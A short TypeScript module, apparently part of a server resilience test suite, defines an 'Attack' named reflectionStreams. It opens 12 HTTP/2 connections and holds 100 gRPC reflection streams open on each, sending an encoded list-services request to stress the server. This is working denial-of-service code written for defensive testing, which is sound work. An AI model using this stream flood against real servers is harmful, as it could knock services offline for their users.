import { frame as message } from "../../../test/support/frames.ts";
import type { Attack } from "../attack.ts";
import { postBlock } from "../requests.ts";
import { keepStreams } from "../streams.ts";

const path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/** A request to list all services: field 7, a text. */
const listServices = message(Buffer.from([0x3a, 1, 0x2a]));

export const reflectionStreams: Attack = {
  what: "12 HTTP/2 connections keep 100 streams of reflection each open",
  begin: ({ port }) =>
    keepStreams(port, {
      ...{ connections: 12, streams: 100, isWhole: false, body: listServices },
      headers: postBlock(path, { "content-type": "application/grpc", te: "trailers" }),
    }),
};
